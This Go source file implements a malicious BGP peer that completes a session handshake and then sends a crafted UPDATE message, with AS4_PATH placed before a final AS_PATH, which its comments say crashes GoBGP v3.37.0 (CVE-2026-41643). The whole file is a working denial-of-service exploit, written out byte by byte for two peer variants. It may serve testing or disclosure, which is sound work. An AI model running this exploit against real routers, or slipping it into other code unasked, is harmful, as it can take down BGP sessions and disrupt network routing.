package router

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"slices"
)

// Crash is a peer that crashes GoBGP v3.37.0 with one UPDATE (CVE-2026-41643): AS4_PATH precedes AS_PATH, which is the
// last attribute. GoBGP removes AS4_PATH from the list of attributes, and then writes to the previous index of AS_PATH
// (UpdatePathAttrs4ByteAs in internal/pkg/table/message.go; fixed in v4.3.0).
type Crash struct{ options, attributes []byte }

// crashASN is the AS of a Crash.
const crashASN = 65002

var (
	crashID = netip.AddrFrom4([4]byte{203, 0, 113, 200})
	origin  = []byte{0x40, 1, 1, 0} // IGP
	nextHop = append([]byte{0x40, 3, 4}, crashID.AsSlice()...)
	as4Path = []byte{0xc0, 17, 6, 2, 1, 0, 0, 0xfd, 0xea} // 65002
)

// Crashes are a peer without 4-octet AS numbers and a peer with them.
var Crashes = []Crash{
	{nil, slices.Concat(origin, nextHop, as4Path, []byte{0x40, 2, 4, 2, 1, 0xfd, 0xea})},
	{[]byte{2, 6, 65, 4, 0, 0, 0xfd, 0xea}, slices.Concat(origin, nextHop, as4Path, []byte{0x40, 2, 6, 2, 1, 0, 0, 0xfd, 0xea})},
}

// Take accepts the next session on l, as a peer of AS 65002 and router id 203.0.113.200. It returns when the other side
// has closed it.
func (c Crash) Take(l net.Listener) error {
	conn, err := l.Accept()
	if err != nil {
		return fmt.Errorf("await a BGP session: %w", err)
	}
	defer conn.Close()
	open := binary.BigEndian.AppendUint16([]byte{4}, crashASN)
	open = append(binary.BigEndian.AppendUint16(open, 90), crashID.AsSlice()...)
	open = append(append(open, byte(len(c.options))), c.options...)
	update := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(c.attributes))) // no withdrawn routes
	update = append(append(update, c.attributes...), 24, 192, 0, 2)
	err = errors.Join(writeMessage(conn, 1, open), writeMessage(conn, 4, nil), skipMessage(conn), skipMessage(conn), // its OPEN and KEEPALIVE: the session is up
		writeMessage(conn, 2, update))
	if err != nil {
		return err
	}
	_, _ = io.Copy(io.Discard, conn) // in any way it ends
	return nil
}

// writeMessage writes a message of BGP (RFC 4271, 4.1).
func writeMessage(w io.Writer, kind byte, body []byte) error {
	m := binary.BigEndian.AppendUint16(bytes.Repeat([]byte{0xff}, 16), uint16(19+len(body)))
	_, err := w.Write(append(append(m, kind), body...))
	return err
}

func skipMessage(r io.Reader) error {
	header := make([]byte, 19)
	if _, err := io.ReadFull(r, header); err != nil {
		return err
	}
	_, err := io.CopyN(io.Discard, r, int64(binary.BigEndian.Uint16(header[16:]))-19)
	return err
}
